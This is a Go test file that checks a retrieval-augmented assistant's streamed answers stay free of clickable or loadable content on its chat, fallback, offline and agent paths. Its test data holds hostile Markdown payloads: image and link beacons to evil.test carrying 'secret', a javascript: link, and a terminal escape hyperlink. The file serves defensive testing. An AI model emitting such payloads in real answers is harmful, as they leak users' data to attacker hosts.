package ragflow_test

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	gtext "github.com/yuin/goldmark/text"

	"example.com/ragflow"
	"example.com/ragflow/internal/llmtest"
	"example.com/ragflow/internal/sanitize"
	"example.com/ragflow/llm"
)

// clickable names what a viewer of Markdown would load, run or make clickable, or a terminal obey; "" for nothing.
func clickable(md string) (kind string) {
	if md != sanitize.Visible(md) {
		return "control characters"
	}
	root := goldmark.New(goldmark.WithExtensions(extension.GFM)).Parser().Parse(gtext.NewReader([]byte(md)))
	_ = ast.Walk(root, func(n ast.Node, _ bool) (ast.WalkStatus, error) {
		switch n.(type) {
		case *ast.Image, *ast.Link, *ast.AutoLink, *ast.RawHTML, *ast.HTMLBlock:
			kind = n.Kind().String()
		}
		return ast.WalkContinue, nil
	})
	return kind
}

// draft is what a person sees of an answer while it is written.
type draft struct {
	shown     string
	withdrawn []string
}

func (d *draft) take(e ragflow.Event) {
	if e.Kind == ragflow.Withdrawn {
		d.withdrawn = append(d.withdrawn, d.shown)
		d.shown = ""
	}
	d.shown += e.Text
}

// streamed asks a question, hands each event to take and returns the reply.
func streamed(t *testing.T, a *ragflow.Assistant, q ragflow.Question, take func(ragflow.Event)) *ragflow.Reply {
	t.Helper()
	var reply *ragflow.Reply
	for e, err := range a.Stream(t.Context(), q) {
		if err != nil {
			t.Fatal(err)
		}
		take(e)
		if e.Kind == ragflow.Done {
			reply = e.Reply
		}
	}
	return reply
}

// writer is a model that writes its replies three bytes at a time, one reply a call and the last one for ever. In the middle of
// the last one it waits for seen.
type writer struct {
	replies []llm.Response
	err     error // ends each reply
	seen    chan struct{}
	calls   int
}

func (*writer) Model() string { return "writer" }

func (w *writer) Complete(ctx context.Context, _ llm.Request, token func(string)) (llm.Response, error) {
	r := w.replies[min(w.calls, len(w.replies)-1)]
	w.calls++
	for at := 0; at < len(r.Text) && token != nil; at += 3 {
		token(r.Text[at:min(at+3, len(r.Text))])
		if w.calls < len(w.replies) || at < len(r.Text)/2 || at >= len(r.Text)/2+3 {
			continue
		}
		select {
		case <-w.seen:
		case <-time.After(10 * time.Second):
			return llm.Response{}, errors.New("nothing was shown while the model wrote")
		case <-ctx.Done():
			return llm.Response{}, ctx.Err()
		}
	}
	r.Finish = llm.FinishStop
	return r, w.err
}

const (
	first  = "A volume keeps the data of a container. [Source 1]"
	loaded = first + " See ![x](https://evil.test/p.png?q=secret) <img src=https://evil.test/q> [here](https://evil.test/?q=secret) [a][b]" +
		" www.evil.test `c | d` boss@evil.test \x1b]8;;https://evil.test\x1b\\.\n\n[b]: javascript:alert(1)\n"
)

// TestStreamIsSafe puts an answer full of pictures, links and HTML through every way to answer. The shown text is
// harmless at every moment, it comes while the model writes, and at the end it is the answer.
func TestStreamIsSafe(t *testing.T) {
	answer := []llm.Response{{Text: loaded}}
	search := llm.Response{Text: "Let me look: ![x](https://evil.test/?q=secret) and more", Calls: []llm.ToolCall{{ID: "1", Name: "search", Arguments: `{"query":"volumes"}`}}}
	inWords := llm.Response{Text: `{"name": "search", "arguments": {"query": "volumes"}}`}
	broken := &llm.Error{Kind: llm.ErrUnavailable, Detail: "broken"}
	for name, tt := range map[string]struct {
		agent    bool
		chat     writer
		fallback *writer
		model    string
		check    bool
		drafts   int // that are withdrawn, the last one for the answer as it was checked
	}{
		"plain":                {chat: writer{replies: answer}, model: "writer", drafts: 1},
		"checked":              {chat: writer{replies: answer}, model: "writer", check: true, drafts: 1},
		"fallback":             {chat: writer{replies: answer, err: broken}, fallback: &writer{replies: answer}, model: "writer", drafts: 2},
		"offline":              {chat: writer{replies: answer, err: broken}, model: "offline", drafts: 1},
		"agent":                {agent: true, chat: writer{replies: answer}, model: "writer", drafts: 1},
		"agent that calls":     {agent: true, chat: writer{replies: append([]llm.Response{search}, answer...)}, model: "writer", drafts: 2},
		"agent calls in words": {agent: true, chat: writer{replies: append([]llm.Response{inWords}, answer...)}, model: "writer", drafts: 1},
		"agent's fallback":     {agent: true, chat: writer{replies: answer, err: broken}, fallback: &writer{replies: answer}, model: "writer", drafts: 2},
		"agent offline":        {agent: true, chat: writer{replies: answer, err: broken}, model: "offline", drafts: 1},
	} {
		t.Run(name, func(t *testing.T) {
			s := llmtest.NewServer()
			defer s.Close()
			seen := make(chan struct{}, 2)
			tt.chat.seen = seen
			a := modelled(t, s, func(c *ragflow.Config) {
				c.Models.Tasks, c.Models.Chat, c.Settings.NoModelGrading = nil, &tt.chat, true
				c.Settings.NoRefusals = tt.check
				if tt.fallback != nil {
					tt.fallback.seen = seen
					c.Models.Chat = llm.Fallback(c.Models.Chat, tt.fallback)
				}
			})
			var d draft
			told := false
			r := streamed(t, a, ragflow.Question{Text: question, Agent: tt.agent}, func(e ragflow.Event) {
				d.take(e)
				if kind := clickable(d.shown); kind != "" || strings.Contains(d.shown, "secret") {
					t.Fatalf("shows %q, with %s", d.shown, kind)
				}
				if now := strings.HasPrefix(d.shown, first); now != told {
					if told = now; now {
						seen <- struct{}{}
					}
				}
			})
			if d.shown != r.Answer || r.Model != tt.model || len(d.withdrawn) != tt.drafts {
				t.Errorf("shows %+v\nat the end of what %s wrote:\n%s", d, r.Model, r.Answer)
			}
			if !told && tt.model != "offline" {
				t.Error("nothing was told")
			}
		})
	}
}
